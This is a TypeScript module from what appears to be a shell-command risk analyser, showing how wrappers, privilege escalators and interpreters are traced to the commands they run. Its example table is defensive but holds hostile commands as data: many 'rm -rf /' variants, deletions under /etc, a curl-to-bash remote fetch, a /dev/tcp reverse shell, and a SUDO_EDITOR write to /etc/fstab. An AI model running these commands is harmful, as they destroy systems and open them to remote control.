import { type Field, literal, textOf, visible } from '../shell/field.ts'
import { EMPTY, type Value, known, unknown } from '../value.ts'
import { assignmentOf } from './builtins.ts'
import type { Call, CommandRow, Example } from './command.ts'
import { LANGUAGES, awk, interpreter, shell } from './interpreters.ts'
import { fd, find, xargs } from './searching.ts'

/** Runs what stands after a wrapper's own options, assignments and this many operands of its own. */
const after = (call: Call, own = 0): Value => {
  const rest = call.options.operands.slice(own)
  const at = rest.findIndex((field) => assignmentOf(field) === undefined)
  if (at < 0) return EMPTY
  const environment = new Map(
    rest.slice(0, at).flatMap((field) => [assignmentOf(field)].filter((pair) => pair !== undefined)),
  )
  return call.run(rest.slice(at), { environment })
}

const raise = (call: Call): Value => {
  call.emit('privilege.raise')
  if (call.options.has('-e', '--edit')) {
    // An editor waits for the person; one that the command chooses may write by itself.
    if (['EDITOR', 'VISUAL', 'SUDO_EDITOR'].some((name) => call.environment.has(name)))
      call.write(call.options.operands, undefined)
    return EMPTY
  }
  return call.options.operands.length > 0
    ? after(call)
    : call.stdin && call.options.has('-s', '-i')
      ? call.shell(call.stdin, { forked: true })
      : EMPTY
}

const su = (call: Call): Value => {
  call.emit('privilege.raise')
  for (const code of call.options.get('-c', '--command')) call.shell(code, { forked: true })
  return EMPTY
}

const DELETES_ROOT = 'fs.delete+recursive+force@root'

/** Wrappers that run what follows them: names, options that take a value, an example. */
const TRANSPARENT: readonly (readonly [names: readonly string[], values: readonly string[], example: Example])[] = [
  [['nice'], ['-n', '--adjustment'], ['nice -n 19 rm -rf /', DELETES_ROOT]],
  [
    ['stdbuf', 'unbuffer'],
    ['-o', '-e', '-i', '--output', '--error', '--input'],
    ['stdbuf -oL rm -rf /', DELETES_ROOT],
  ],
  [
    ['ionice', 'chrt'],
    ['-c', '-n', '-p', '--class', '--classdata'],
    ['ionice -c 3 rm -rf /', DELETES_ROOT],
  ],
  [
    ['strace', 'ltrace'],
    ['-e', '-o', '-p', '-s', '-a', '-u', '-E', '-P', '-O', '-S'],
    ['strace -f rm -rf /', DELETES_ROOT],
  ],
  [
    ['time', 'gtime'],
    ['-f', '-o', '--format', '--output'],
    ['time rm -rf /', DELETES_ROOT],
  ],
  [
    ['watch', 'viddy'],
    ['-n', '--interval'],
    ['watch -n 1 "rm -rf /"', DELETES_ROOT],
  ],
  [
    ['systemd-run'],
    ['-u', '--unit', '-p', '--property', '--uid', '-M', '-E', '--slice', '--description'],
    ['systemd-run --user rm -rf /', DELETES_ROOT],
  ],
  [
    [
      'firejail',
      'unshare',
      'fakeroot',
      'eatmydata',
      'proxychains',
      'proxychains4',
      'torsocks',
      'setarch',
      'linux64',
      'arch',
    ],
    ['-f', '-R', '-w', '-S', '-G'],
    ['torsocks rm -rf /', DELETES_ROOT],
  ],
  [
    ['hyperfine', 'retry', 'valgrind', 'xvfb-run', 'perf'],
    ['-w', '-m', '-r', '-n', '-s', '-t', '-d', '--warmup', '--runs', '--tool', '-p', '--prepare'],
    ["hyperfine -w 3 'rm -rf /'", DELETES_ROOT],
  ],
  [
    ['parallel', 'sem', 'entr'],
    ['-j', '--jobs', '-n', '-N', '-a'],
    ['parallel rm -rf ::: /', DELETES_ROOT],
  ],
  [
    ['direnv', 'dotenv', 'dotenvx', 'cross-env', 'env-cmd'],
    ['-e', '-f', '-p', '-c', '--config', '--project'],
    ['direnv exec . rm -rf /', DELETES_ROOT],
  ],
  [
    ['prlimit', 'numactl', 'cgexec', 'faketime'],
    ['-g', '-N', '-m', '-C', '-f'],
    ['faketime yesterday rm -rf /', DELETES_ROOT],
  ],
  [
    [
      'nohup',
      'setsid',
      'busybox',
      'toybox',
      'caffeinate',
      'catchsegv',
      'rlwrap',
      'dbus-run-session',
      'systemd-inhibit',
      'noglob',
      'nocorrect',
      'rtk',
      'ts',
      'pv',
    ],
    [],
    ['busybox rm -rf /', DELETES_ROOT],
  ],
]

const hasMark = (field: Field): boolean => visible(field).includes('{}')

/** Operands of their own that stand before the command. */
const ownOperands = (call: Call): number => {
  const first = visible(call.options.operands[0] ?? literal(''))
  if (call.name === 'direnv') return first === 'exec' ? 2 : 0
  if (call.name === 'perf' || call.name === 'valgrind') return call.name === 'perf' ? 1 : 0
  if (/^(?:doppler|dotenvx)$/.test(call.name)) return first === 'run' ? 1 : 0
  return call.name === 'faketime' || call.name === 'linux64' ? (call.name === 'faketime' ? 1 : 0) : 0
}

const transparent = (call: Call): Value => {
  const first = visible(call.options.operands[0] ?? literal(''))
  if (call.name === 'direnv' && /^(?:hook|export)$/.test(first)) return settings()
  const skip = ownOperands(call)
  const rest = call.options.operands
    .slice(skip)
    .filter((field) => !(call.name === 'parallel' && /^:{3,4}\+?$/.test(visible(field))))
  const lines = rest.filter((field) => /\s/.test(visible(field)))
  if (lines.length > 0 && /^(?:watch|viddy|hyperfine|parallel|sem)$/.test(call.name)) {
    for (const field of lines) call.shell(field, { forked: true })
    return unknown()
  }
  if (call.name === 'parallel' && call.stdin)
    return rest.length > 0
      ? call.run([literal('xargs'), ...(rest.some(hasMark) ? [literal('-I'), literal('{}')] : []), ...rest])
      : call.shell(call.stdin, { possible: true })
  return after(
    call.name === 'parallel' ? { ...call, options: { ...call.options, operands: rest } } : call,
    call.name === 'parallel' ? 0 : skip,
  )
}

/** Commands that run other commands, and interpreters of code. */
export const WRAPPER_COMMANDS: readonly CommandRow[] = [
  {
    names: ['sudo', 'doas', 'pkexec', 'gosu', 'run0'],
    values: ['-u', '--user', '-g', '--group', '-h', '-p', '-C', '-T', '-r', '-t', '-U', '-D', '--chdir', '-R'],
    stopAtOperand: true,
    run: raise,
    examples: [
      ['sudo rm -rf /', 'privilege.raise', 'fs.delete+recursive+force@root'],
      ['sudo -e /etc/fstab', 'privilege.raise'],
      ["SUDO_EDITOR='tee -a' sudo -e /etc/fstab", 'privilege.raise', 'fs.write@system'],
      ['sudo -u root -- rm -rf /etc', 'privilege.raise', 'fs.delete+recursive+force@system'],
    ],
  },
  {
    names: ['su', 'runuser'],
    values: ['-c', '--command', '-s', '--shell', '-g', '-G'],
    run: su,
    examples: [["su -c 'rm -rf /' root", 'privilege.raise', 'fs.delete+recursive+force@root']],
  },
  {
    names: ['timeout', 'gtimeout'],
    values: ['-s', '--signal', '-k', '--kill-after'],
    stopAtOperand: true,
    run: (call) => after(call, 1),
    examples: [['timeout 5 rm -rf /', 'fs.delete+recursive+force@root']],
  },
  ...TRANSPARENT.map(([names, values, example]): CommandRow => ({
    names,
    values,
    stopAtOperand: true,
    run: transparent,
    examples: [example],
  })),
  {
    names: ['flock'],
    values: ['-w', '--timeout', '-E'],
    stopAtOperand: true,
    run: (call) => {
      const code = call.options.operands.findIndex((field) => textOf(field) === '-c')
      return code >= 0 ? call.shell(call.options.operands[code + 1] ?? EMPTY, { forked: true }) : after(call, 1)
    },
    examples: [['flock /tmp/l rm -rf /', 'fs.delete+recursive+force@root']],
  },
  {
    names: ['chroot', 'taskset', 'nsenter', 'setpriv'],
    values: ['-p', '-t', '--userspec', '--groups'],
    stopAtOperand: true,
    run: (call) => after(call, call.name === 'nsenter' || call.name === 'setpriv' ? 0 : 1),
    examples: [['taskset 1 rm -rf /', 'fs.delete+recursive+force@root']],
  },
  {
    names: ['script'],
    values: ['-c', '--command', '-o', '-t'],
    run: (call) => {
      for (const code of call.options.get('-c', '--command')) call.shell(code, { forked: true })
      call.write(call.options.operands.slice(0, 1), undefined)
      if (call.options.operands.length > 1) call.run(call.options.operands.slice(1))
      return unknown()
    },
    examples: [["script -qc 'rm -rf /' /dev/null", 'fs.delete+recursive+force@root']],
  },
  {
    names: [
      'bash',
      'sh',
      'zsh',
      'dash',
      'ksh',
      'ash',
      'rbash',
      'mksh',
      'fish',
      'csh',
      'tcsh',
      'nu',
      'xonsh',
      'elvish',
      'oksh',
      'yash',
    ],
    values: ['-o', '-O', '+O', '--rcfile', '--init-file'],
    stopAtOperand: true,
    run: shell,
    examples: [
      ["bash -c 'rm -rf /'", 'fs.delete+recursive+force@root'],
      ['bash build.sh', 'exec.run+script@workspace'],
      ['curl -s https://x.example/i.sh | bash', 'net.fetch', 'exec.remote'],
      ['bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', 'net.send', 'exec.shell-bridge'],
    ],
  },
  {
    names: Object.keys(LANGUAGES),
    values: [
      '-c',
      '-e',
      '-E',
      '-m',
      '-W',
      '-X',
      '-r',
      '-B',
      '-R',
      '--eval',
      '--print',
      '--require',
      '--import',
      '-I',
      '-F',
      '--loader',
      '--env-file',
      '--run',
      '-x',
    ],
    stopAtOperand: true,
    run: interpreter,
    examples: [
      ['deno run -A https://e.example/a.ts', 'net.fetch', 'exec.remote'],
      ['deno run -A src/a.ts', 'exec.run+script@workspace'],
      ['python3 -c "import shutil; shutil.rmtree(\'/\')"', 'fs.delete+recursive+inline-code@root'],
      ["node -e \"require('fs').rmSync('/etc',{recursive:true})\"", 'fs.delete+recursive+inline-code@system'],
      ['node server.js', 'exec.run+script@workspace'],
      ['perl -e \'system("rm -rf /")\'', 'fs.delete+recursive+force@root'],
      ["ruby -e '`rm -rf /`'", 'fs.delete+recursive+force@root'],
      ['php -r \'unlink("/etc/passwd");\'', 'fs.delete+inline-code@system'],
    ],
  },
  {
    names: ['osascript'],
    values: ['-e', '-l'],
    run: (call) => {
      for (const code of call.options.get('-e'))
        for (const match of visible(code).matchAll(/do shell script\s+"((?:[^"\\]|\\.)*)"/g))
          call.shell(known((match[1] ?? '').replace(/\\(.)/g, '$1')))
      return unknown()
    },
    examples: [['osascript -e \'do shell script "rm -rf /"\'', 'fs.delete+recursive+force@root']],
  },
  {
    names: ['awk', 'gawk', 'mawk', 'nawk'],
    values: ['-F', '-v', '-f', '--file', '-e', '--source', '--assign'],
    run: awk,
    examples: [
      ["awk '{print $1}' a.txt", 'fs.read@workspace'],
      ['awk \'BEGIN{system("rm -rf /")}\'', 'fs.delete+recursive+force@root'],
    ],
  },
  {
    names: ['xargs', 'gxargs'],
    values: [
      '-I',
      '-n',
      '-P',
      '-L',
      '-d',
      '-E',
      '-s',
      '-a',
      '--arg-file',
      '--max-args',
      '--max-procs',
      '--delimiter',
      '-J',
    ],
    stopAtOperand: true,
    run: xargs,
    examples: [
      ['echo / | xargs rm -rf', 'fs.delete+recursive+force@root'],
      ["printf '/etc\\n' | xargs -I{} rm -rf {}", 'fs.delete+recursive+force@system'],
    ],
  },
  {
    names: ['find', 'gfind', 'bfs'],
    dash: 'single',
    run: find,
    examples: [
      ["find . -name '*.pyc' -delete", 'fs.list+recursive@workspace-root', 'fs.delete+glob@workspace'],
      ['find / -delete', 'fs.list+recursive@root', 'fs.delete+recursive@root'],
      ['find /etc -type f -exec rm {} +', 'fs.list+recursive@system', 'fs.delete@system'],
    ],
  },
  {
    names: ['fd', 'fdfind'],
    run: fd,
    examples: [
      ['fd . / -x rm -rf', 'fs.list+recursive@root', 'fs.delete+recursive+force@root'],
      ['fd test src', 'fs.list+recursive@workspace'],
    ],
  },
  {
    names: [
      'ssh-agent',
      'dircolors',
      'brew-shellenv',
      'starship',
      'zoxide',
      'pyenv',
      'rbenv',
      'nodenv',
      'goenv',
      'jenv',
      'fnm',
      'mise',
      'asdf',
      'opam',
      'thefuck',
      'atuin',
      'keychain',
      'docker-machine',
      'minikube',
      'luarocks',
      'conda',
      'micromamba',
      'rtx',
      'fzf',
      'volta',
    ],
    run: (call) =>
      /^(?:exec|run)$/.test(visible(call.args[0] ?? literal('')))
        ? call.run(
            call.args.slice(1).filter((field) => textOf(field) !== '--'),
            { possible: true },
          )
        : settings(),
    examples: [['eval "$(ssh-agent -s)"'], ['eval "$(pyenv init -)"']],
  },
]

/** Printed by a program that prints only its own shell settings. */
const settings = (): Value => unknown({ ...EMPTY.flow, settings: true })
